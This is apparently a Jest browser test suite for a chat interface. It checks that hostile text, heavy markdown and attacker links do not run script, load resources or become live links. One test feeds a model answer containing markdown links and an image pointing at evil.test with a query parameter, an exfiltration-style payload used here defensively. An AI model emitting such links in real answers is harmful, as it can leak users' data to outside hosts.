import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { describeInBrowser, sendQuestion, startUi, type Ui, watchRequests } from '../../src/browser/index.js';
import { hostileTexts } from './hostile-texts.js';

describeInBrowser('hostile text', () => {
  let ui: Ui;
  beforeAll(async () => {
    ui = await startUi();
  }, 240_000);
  afterAll(() => ui.close(), 60_000);

  it('runs no script and asks nobody, as a question, an answer, a tool’s input and a title', async () => {
    expect(hostileTexts.length).toBeGreaterThanOrEqual(100);
    const page = await ui.signIn('alice');
    const watched = watchRequests(page, ui.url);
    const groups = Array.from({ length: 5 }, (_, index) => hostileTexts.filter((_text, at) => at % 5 === index));
    for (const texts of groups) {
      ui.model.answerBy(({ toolResults }, reply) => {
        if (toolResults === 0) reply.call('search', { query: texts.join('\n').slice(0, 3000) });
        else reply.say(texts.join('\n\n'));
      });
      await page.goto('/chat');
      await page.getByLabel('Your question').fill(texts.join('\n'));
      await sendQuestion(page);
      const log = page.getByRole('log', { name: 'Conversation' });
      await log.getByRole('button', { name: 'Ask again' }).waitFor();
      await log.getByRole('button', { name: /^search/ }).click();
      await page.getByText('Result', { exact: true }).waitFor();
      expect(await log.locator('img, script, iframe, object, embed, form, link, meta, base, svg image').count()).toBe(
        0,
      );
      const addresses = await log
        .locator('a')
        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
      expect(addresses.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([]);
    }
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
    expect(watched).toEqual({ foreign: [], faults: [] });
    await page.context().close();
  });

  it('stays responsive with answers that are costly to parse, and shows them as plain text', async () => {
    const page = await ui.signIn('alice');
    for (const answer of [
      '_a_ '.repeat(15_000),
      '>'.repeat(4_000),
      `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${'|\n'.repeat(900)}`,
    ]) {
      ui.model.answerBy((_asked, reply) => reply.say(answer));
      await page.goto('/chat');
      await page.getByLabel('Your question').fill('Say something costly.');
      await sendQuestion(page);
      const log = page.getByRole('log', { name: 'Conversation' });
      await log.getByRole('button', { name: 'Ask again' }).waitFor();
      await log.locator('.parley-markdown-as-it-is').waitFor();
    }
    await page.context().close();
  });

  it('links from an answer only to what a tool found', async () => {
    const page = await ui.signIn('alice');
    ui.model.answerBy((_asked, reply) =>
      reply.say('[Read more](https://evil.test/?d=1) ![x](https://evil.test/p.png?d=1) https://evil.test/?d=1'),
    );
    await page.goto('/chat');
    await page.getByLabel('Your question').fill('Where can I read more?');
    await sendQuestion(page);
    const log = page.getByRole('log', { name: 'Conversation' });
    await log.getByRole('button', { name: 'Ask again' }).waitFor();
    await log.getByText('Read more (evil.test) Picture: x (evil.test) evil.test').waitFor();
    expect(await log.locator('a[href*="evil"]').count()).toBe(0);
    await page.context().close();
  });
});
